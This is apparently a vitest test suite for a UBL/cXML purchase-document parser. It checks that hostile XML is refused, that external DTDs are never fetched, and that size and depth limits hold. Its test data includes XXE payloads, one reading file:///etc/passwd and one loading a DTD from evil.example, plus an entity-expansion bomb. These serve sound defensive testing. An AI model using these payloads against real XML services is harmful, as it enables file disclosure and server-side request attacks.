import { describe, expect, it } from "vitest";
import { cxmlContact, cxmlLine, cxmlOrder } from "../../testing/cxml-document.js";
import { read } from "../../testing/read.js";
import { orderLine, seller, ublDocument } from "../../testing/ubl-document.js";

const order = (content: string) => ublDocument("Order", seller("Alder Mills") + content);
const named = (doctype: string) => cxmlOrder(cxmlContact("supplierCorporate", "Alder Mills"), "", { doctype });

describe("hostile XML is refused", () => {
  it.each([
    ["an entity bomb", `<!DOCTYPE cXML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>`],
    ["an external entity", `<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>`],
    ["a parameter entity", `<!DOCTYPE cXML [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>`],
    [
      "an external DTD with an internal subset",
      `<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/cXML.dtd" [<!ENTITY a "b">]>`,
    ],
    ["an empty internal subset", `<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/cXML.dtd" []>`],
    ["a DOCTYPE without a DTD", "<!DOCTYPE cXML>"],
  ])("%s", async (_, doctype) => {
    await expect(read(named(doctype))).rejects.toMatchObject({ _tag: "IntakeError", reason: "hostile" });
  });

  it("an entity that nobody declared, with the place", async () => {
    await expect(read(cxmlOrder("<Comments>&xxe;</Comments>"))).rejects.toMatchObject({
      reason: "hostile",
      at: { path: "/cXML/Request/OrderRequest/OrderRequestHeader/Comments", line: 7 },
    });
  });

  it("a DOCTYPE in a document whose kind never has one", async () => {
    const doctype = `<!DOCTYPE Order SYSTEM "http://evil.example/ubl.dtd">`;
    const text = ublDocument("Order", seller("Alder Mills")).replace("?>\n", `?>\n${doctype}\n`);
    await expect(read(text)).rejects.toMatchObject({ reason: "hostile" });
  });

  it("two DOCTYPEs", async () => {
    const one = `<!DOCTYPE cXML SYSTEM "a.dtd">`;
    await expect(read(named(one + one), { format: "cxml" })).rejects.toMatchObject({ _tag: "IntakeError" });
  });
});

describe("one external DOCTYPE without internal subset is accepted and never fetched", () => {
  it.each([
    ["the usual one", `<!DOCTYPE cXML SYSTEM "http://xml.cXML.org/schemas/cXML/1.2.050/cXML.dtd">`],
    ["over https", `<!DOCTYPE cXML SYSTEM "https://xml.cxml.org/schemas/cXML/1.2.063/InvoiceDetail.dtd">`],
    ["of a host that would never answer", `<!DOCTYPE cXML SYSTEM 'http://192.0.2.1:9/Fulfill.dtd' >`],
    ["with a public name", `<!DOCTYPE cXML PUBLIC "-//cXML//DTD" "cXML.dtd">`],
    ["none at all", ""],
  ])("%s", async (_, doctype) => {
    expect((await read(named(doctype))).suppliers.map(({ name }) => name)).toEqual(["Alder Mills"]);
  });
});

describe("limits of XML", () => {
  it("end a document that nests too deep, with the path", async () => {
    const deep = order(`<cac:A>`.repeat(40) + "</cac:A>".repeat(40));
    await expect(read(deep)).rejects.toMatchObject({
      reason: "too-deep",
      at: { path: expect.stringMatching(/^\/ubl:Order/) },
    });
    await expect(read(order(orderLine("")), { limits: { depth: 3 } })).rejects.toMatchObject({ reason: "too-deep" });
  });

  it("end a document with a field that is too long, wherever it is, before it is read whole", async () => {
    const long = "x".repeat(300_000);
    for (const content of [
      `<cbc:Note>${long}</cbc:Note>`,
      `<cbc:Note a="${long}"/>`,
      `<cbc:Note><![CDATA[${long}]]></cbc:Note>`,
      `<!--${long}-->`,
      `<cbc:${long}/>`,
    ]) {
      await expect(read(order(content))).rejects.toMatchObject({ reason: "too-large" });
    }
    let taken = 0;
    async function* endless() {
      yield new TextEncoder().encode(order("").replace("</Order>", "<cbc:Note>"));
      for (;;) {
        taken += 65_536;
        yield new Uint8Array(65_536).fill(120);
      }
    }
    const { intake } = await import("../intake.js");
    const reading = (async () => {
      for await (const _ of intake(endless())) void _;
    })();
    await expect(reading).rejects.toMatchObject({ reason: "too-large", at: { path: "/ubl:Order/cbc:Note" } });
    expect(taken).toBeLessThan(1_000_000);
  });

  it("end a document whose parts outside its lines are too large to hold", async () => {
    const many = order(`<cbc:Note>${"x".repeat(99_000)}</cbc:Note>`.repeat(330));
    await expect(read(many)).rejects.toMatchObject({
      reason: "too-large",
      message: "A part of the document holds more than 32000000 characters.",
    });
  });

  it("let an embedded attachment pass, however long", async () => {
    const attachment = `<cbc:EmbeddedDocumentBinaryObject>${"QUJD".repeat(200_000)}</cbc:EmbeddedDocumentBinaryObject>`;
    expect((await read(order(attachment))).suppliers).toHaveLength(1);
  });

  it("count the bytes and the characters", async () => {
    await expect(read(order(""), { limits: { bytes: 100 } })).rejects.toMatchObject({ reason: "too-large" });
    await expect(read(order(""), { limits: { expandedBytes: 100 } })).rejects.toMatchObject({ reason: "too-large" });
  });
});

describe("malformed XML ends the reading with the place", () => {
  it.each([
    ["a tag that is not closed", order("<cac:OrderLine>")],
    ["a document cut off", order("").slice(0, -20)],
    ["tags that cross", order("<cac:A><cac:B></cac:A></cac:B>")],
    ["a prefix that is not declared", order("<x:A/>")],
    ["an attribute that is given twice", order(`<cbc:ID a="1" a="2"/>`)],
    ["a second root", `${order("")}<Order/>`],
    ["an ampersand that stands for itself", order("<cbc:Note>Alder & Sons</cbc:Note>")],
    ["an ampersand within a word", order("<cbc:Note>A&B Mills</cbc:Note>")],
    ["a control character", order("<cbc:Note>\u0001</cbc:Note>")],
  ])("%s", async (_, text) => {
    await expect(read(text)).rejects.toMatchObject({ reason: "malformed", at: { line: expect.any(Number) } });
  });

  it("an empty input of a given format", async () => {
    await expect(read(" \n", { format: "ubl" })).rejects.toMatchObject({ reason: "malformed" });
  });

  it("a root of another format", async () => {
    await expect(read(order(""), { format: "cxml" })).rejects.toMatchObject({
      reason: "unknown-format",
      message: expect.stringMatching(/ubl:Order/),
    });
    await expect(read("<html><body>no</body></html>")).rejects.toMatchObject({ reason: "unknown-format" });
  });
});

describe("entities of XML itself", () => {
  it("are read, by name and by number", async () => {
    const { suppliers } = await read(ublDocument("Order", seller("Tom &amp; J&#233;r&#xF4;me &lt;Sons&gt; &#x1F642;")));
    expect(suppliers[0]?.name).toBe("Tom & Jérôme <Sons> 🙂");
  });
});

describe("lines", () => {
  it("are read one at a time, so that their number does not matter", async () => {
    const line = cxmlLine(`<Description>chair</Description>`);
    const { suppliers } = await read(cxmlOrder(cxmlContact("supplierCorporate", "Alder Mills"), line.repeat(20_000)));
    expect(suppliers[0]?.goods).toEqual([{ name: "chair" }]);
  });

  it("is refused where it is empty elements in millions", async () => {
    await expect(read(order("<cbc:Note/>".repeat(1_100_000)))).rejects.toMatchObject({ reason: "too-large" });
  });

  it("may be parted by blanks without end", async () => {
    const { suppliers } = await read(order(orderLine("").padEnd(20_000).repeat(20)));
    expect(suppliers).toHaveLength(1);
  });
});
